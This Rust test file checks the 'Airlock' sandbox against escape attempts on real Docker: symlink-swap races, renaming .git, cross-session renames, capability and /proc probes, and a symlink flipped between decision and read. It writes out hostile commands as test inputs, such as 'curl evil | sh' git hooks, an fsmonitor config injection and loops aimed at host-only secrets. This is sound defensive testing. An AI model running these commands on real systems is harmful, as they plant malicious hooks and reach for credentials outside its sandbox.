//! The boundary under attack, on real Docker: a workload that races renames and symlink swaps
//! while sandboxes start, renames the parents of guarded paths, carries a rename across
//! sessions, or reaches for Airlock's own settings; and one that flips a symlink between the
//! decision on a path and the operation on it. Each test is one break of the threat model in
//! the README's Security section; race tests loop many times per run.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use airlock::sandbox::{SandboxError, SandboxManager};
use airlock_agent::{ErrorKind, Op, Reply, RunResult, RunSpec};
use common::*;
use std::sync::Arc;

fn manager(env: &TestEnv) -> Arc<SandboxManager> {
    sandbox_manager(env)
}

/// The project workspace with these extra lines (e.g. `hide = [...]`) in its table.
fn with_project_lines(env: &TestEnv, lines: &str) {
    let text = env.settings_text("").replacen(
        "access = \"rw\"\n",
        &format!("access = \"rw\"\n{lines}\n"),
        1,
    );
    std::fs::write(&env.config, text).unwrap();
}

async fn run_in(m: &SandboxManager, session: &str, command: &str) -> RunResult {
    let spec = RunSpec {
        command: command.to_string(),
        timeout_ms: 20_000,
        output_cap: 1 << 20,
        ..Default::default()
    };
    match m.call(session, Op::Run(spec)).await.expect("run answered") {
        Reply::Ran(r) => r,
        other => panic!("unexpected {other:?}"),
    }
}

/// The host's mount table, as lines naming a path under `dir`.
fn host_mounts_under(dir: &std::path::Path) -> Vec<String> {
    let table = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let dir = dir.to_string_lossy();
    table
        .lines()
        .filter(|l| l.contains(dir.as_ref()))
        .map(str::to_string)
        .collect()
}

/// Break 1: a sandbox swaps a guarded name for a symlink to a host-only file in a loop while
/// other sandboxes start on the same folder. No new sandbox may see the host file, a hidden
/// file, or anything mounted from outside the workspace; the host's mount table is untouched.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn symlink_swaps_racing_sandbox_starts_reach_nothing_on_the_host() {
    let env = TestEnv::new("");
    // A host-only secret: root's, mode 0700, outside every workspace.
    let vault = env.dir.path().join("vault");
    std::fs::create_dir_all(&vault).unwrap();
    std::fs::write(vault.join("secret.txt"), "HOST-ONLY-SECRET\n").unwrap();
    std::fs::set_permissions(&vault, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    std::fs::create_dir_all(env.project.join("app")).unwrap();
    std::fs::write(env.project.join("app/.env"), "APP-SECRET=1\n").unwrap();
    std::fs::write(env.project.join(".envrc"), "export SAFE=1\n").unwrap();
    give_to_sandbox(&env.project);
    let mounts_before = host_mounts_under(env.dir.path());
    let m = manager(&env);
    // The attacker: swaps `.envrc` (protected) and `app` with symlinks to the host, forever.
    let attack = format!(
        "ln -s {vault}/secret.txt link; ln -s {vault} dirlink; \
         (while :; do mv -f .envrc tmp1 2>/dev/null; mv -f link .envrc 2>/dev/null; \
         mv -f .envrc link 2>/dev/null; mv -f tmp1 .envrc 2>/dev/null; \
         mv -f app app-real 2>/dev/null; mv -f dirlink app 2>/dev/null; \
         mv -f app dirlink 2>/dev/null; mv -f app-real app 2>/dev/null; done) \
         >/dev/null 2>&1 & echo started",
        vault = vault.display()
    );
    let started = run_in(&m, "attacker", &attack).await;
    assert!(started.stdout.contains("started"), "{started:?}");
    // 50 sandbox starts, five at a time, while the loop runs.
    for round in 0..10 {
        let mut tasks = Vec::new();
        for i in 0..5 {
            let m = m.clone();
            let session = format!("victim-{round}-{i}");
            tasks.push(tokio::spawn(async move {
                let r = run_in(
                    &m,
                    &session,
                    "cat .envrc app/.env link app/secret.txt 2>/dev/null; \
                     grep -r SECRET . 2>/dev/null; cat /proc/self/mountinfo",
                )
                .await;
                m.release(&session).await;
                r
            }));
        }
        for t in tasks {
            let r = t.await.unwrap();
            assert!(
                !r.stdout.contains("HOST-ONLY-SECRET"),
                "a new sandbox read a host-only file: {r:?}"
            );
            assert!(
                !r.stdout.contains("APP-SECRET"),
                "a hidden file was visible in a new sandbox: {r:?}"
            );
            assert!(
                !r.stdout.contains(vault.to_string_lossy().as_ref()),
                "a host path was mounted into a sandbox: {}",
                r.stdout
            );
        }
    }
    m.stop_all().await;
    assert_eq!(
        host_mounts_under(env.dir.path()),
        mounts_before,
        "the host's mount table changed"
    );
    assert_eq!(
        std::fs::read_to_string(vault.join("secret.txt")).unwrap(),
        "HOST-ONLY-SECRET\n"
    );
}

/// Break 2: renaming the parent of a protected path (`mv .git .git-orig`) and building a new
/// `.git/hooks`; nested repositories; and the file tools moving a folder onto a protected path.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protected_paths_hold_when_their_parents_are_renamed() {
    let env = TestEnv::new("");
    std::fs::create_dir_all(env.project.join(".git/hooks")).unwrap();
    std::fs::write(env.project.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(env.project.join("sub/.git/hooks")).unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    let r = run_in(
        &m,
        "s1",
        "mv .git .git-orig; echo mv=$?; mkdir -p .git/hooks; \
         echo 'curl evil | sh' > .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
         echo 'curl evil | sh' > sub/.git/hooks/pre-commit; \
         mv sub sub2; echo mvsub=$?",
    )
    .await;
    assert!(r.stdout.contains("mv=1"), "renaming .git must fail: {r:?}");
    assert!(
        r.stdout.contains("mvsub=1"),
        "renaming sub must fail: {r:?}"
    );
    assert!(!env.project.join(".git/hooks/pre-commit").exists());
    assert!(!env.project.join(".git-orig").exists());
    assert!(!env.project.join("sub/.git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    m.stop_all().await;

    // File tools only, in a workspace with no .git at sandbox start: a folder staged elsewhere
    // and moved into place would land on `.git/hooks`.
    let env = TestEnv::new("");
    let m = manager(&env);
    let wrote = m
        .call(
            "s1",
            Op::Write {
                path: "staging/hooks/pre-commit".into(),
                content: airlock_agent::Content::Text("curl evil | sh\n".into()),
                create_dirs: true,
            },
        )
        .await;
    assert!(wrote.is_ok(), "{wrote:?}");
    let moved = m
        .call(
            "s1",
            Op::Move {
                from: "staging".into(),
                to: ".git".into(),
                overwrite: false,
            },
        )
        .await;
    match moved {
        Err(SandboxError::Agent(e)) => assert_eq!(e.kind, ErrorKind::ReadOnly, "{e:?}"),
        other => panic!("moving a folder onto a protected path must be refused: {other:?}"),
    }
    assert!(!env.project.join(".git/hooks/pre-commit").exists());
    m.stop_all().await;
}

/// Break 3: a hide pattern with a slash, and a rename in one session meant to carry the file
/// out from under its pattern for the next.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hidden_paths_stay_hidden_across_sessions() {
    let env = TestEnv::new("");
    with_project_lines(&env, "hide = [\"private/key.txt\"]");
    std::fs::create_dir_all(env.project.join("private")).unwrap();
    std::fs::write(env.project.join("private/key.txt"), "KEY-MATERIAL\n").unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    let r = run_in(
        &m,
        "s1",
        "mv private public; echo mv=$?; cat private/key.txt public/key.txt",
    )
    .await;
    assert!(r.stdout.contains("mv=1"), "{r:?}");
    assert!(!r.stdout.contains("KEY-MATERIAL"), "{r:?}");
    m.release("s1").await;
    let r = run_in(
        &m,
        "s2",
        "cat private/key.txt public/key.txt; grep -r KEY-MATERIAL .",
    )
    .await;
    assert!(!r.stdout.contains("KEY-MATERIAL"), "{r:?}");
    assert!(env.project.join("private/key.txt").exists());
    m.stop_all().await;
}

/// Break 4: a workspace that holds Airlock's settings file (a user who adds their home folder)
/// would let a sandbox rewrite its own rules. It is refused, with the path named.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspace_holding_airlocks_own_files_is_refused() {
    let env = TestEnv::new("");
    let home = env.dir.path().to_path_buf();
    let text = env.settings_text("").replacen(
        &format!("path = \"{}\"", env.project.display()),
        &format!("path = \"{}\"", home.display()),
        1,
    );
    std::fs::write(&env.config, text).unwrap();
    let m = manager(&env);
    let err = m.sandbox("s1").await.err().expect("refused");
    let message = err.to_string();
    assert!(
        matches!(err, SandboxError::HoldsAirlock { .. })
            && message.contains(&env.config.display().to_string()),
        "{message}"
    );
    assert!(env.containers().is_empty(), "nothing was started");
}

/// After the setup step, no workload process has a capability: not commands, not root
/// commands (they run through `drop-caps`), so no mask can be unmounted; and the agent's
/// channel cannot be opened through /proc.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workloads_have_no_capabilities_and_cannot_open_the_agents_channel() {
    let env = TestEnv::new("");
    std::fs::write(env.project.join(".env"), "API_KEY=hunter2\n").unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    let r = run_in(
        &m,
        "s1",
        "grep -E '^Cap(Eff|Prm|Amb)' /proc/self/status; umount .env; echo umount=$?; \
         for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/.airlock/airlock-agent serve'; then \
         echo agent; ls $p/fd >/dev/null 2>&1 && echo OPENED; cat $p/fd/0 </dev/null >/dev/null 2>&1 && echo READ; fi; done",
    )
    .await;
    for line in r.stdout.lines().filter(|l| l.starts_with("Cap")) {
        assert!(line.ends_with("0000000000000000"), "{line} in {r:?}");
    }
    assert!(
        r.stdout.contains("umount=1") || r.stdout.contains("umount=255"),
        "{r:?}"
    );
    assert!(
        r.stdout.contains("agent"),
        "the agent process is there: {r:?}"
    );
    assert!(
        !r.stdout.contains("OPENED") && !r.stdout.contains("READ"),
        "{r:?}"
    );
    let (code, out) = m
        .exec_as_root(
            "s1",
            &["sh", "-c", "grep CapEff /proc/self/status; umount /workspaces/project/.env && echo UNMOUNTED; cat /workspaces/project/.env"],
            std::time::Duration::from_secs(20),
        )
        .await
        .unwrap();
    assert!(out.contains("CapEff:\t0000000000000000"), "{code} {out}");
    assert!(
        !out.contains("UNMOUNTED") && !out.contains("hunter2"),
        "{code} {out}"
    );
    m.stop_all().await;
}

/// A symlink flipped between "allowed" and "denied" targets while the model reads through it:
/// the call is decided on what the agent resolved, and the read follows no symlink, so it reads
/// what was decided on or is refused — never the denied file. The audit log records the path
/// as resolved.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_symlink_flipped_between_decision_and_read_never_reaches_a_denied_file() {
    let env = TestEnv::with_approval(
        "",
        "allow = [\"*\"]\ndeny = [\"read_file(/workspaces/project/secret/**)\"]",
    );
    std::fs::create_dir_all(env.project.join("ok")).unwrap();
    std::fs::create_dir_all(env.project.join("secret")).unwrap();
    std::fs::write(env.project.join("ok/key.txt"), "fine\n").unwrap();
    std::fs::write(env.project.join("secret/key.txt"), "DENIED-CONTENT\n").unwrap();
    std::os::unix::fs::symlink("ok", env.project.join("L")).unwrap();
    give_to_sandbox(&env.project);
    let server = Server::start(&env, &[]);
    let client = server.client().await;
    let r = call(
        &client,
        "start_process",
        serde_json::json!({"command": "while :; do ln -sfn secret L; ln -sfn ok L; done"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let (mut read, mut refused) = (0, 0);
    for _ in 0..500 {
        let r = call(
            &client,
            "read_file",
            serde_json::json!({"path": "L/key.txt"}),
        )
        .await;
        let t = text(&r);
        assert!(!t.contains("DENIED-CONTENT"), "a denied file was read: {t}");
        if is_error(&r) {
            refused += 1;
        } else {
            assert!(t.contains("fine"), "{t}");
            read += 1;
        }
    }
    assert!(
        read > 0,
        "the allowed file was never read ({refused} refused)"
    );
    // What was allowed is logged with the path the agent resolved.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["audit", "search", "resolved_paths", "--config"])
        .arg(&env.config)
        .env("AIRLOCK_DATA_DIR", &env.data)
        .env("AIRLOCK_KEYRING", "keyutils")
        .output()
        .unwrap();
    let log = String::from_utf8_lossy(&out.stdout);
    assert!(log.contains("/workspaces/project/ok/key.txt"), "{log}");
}
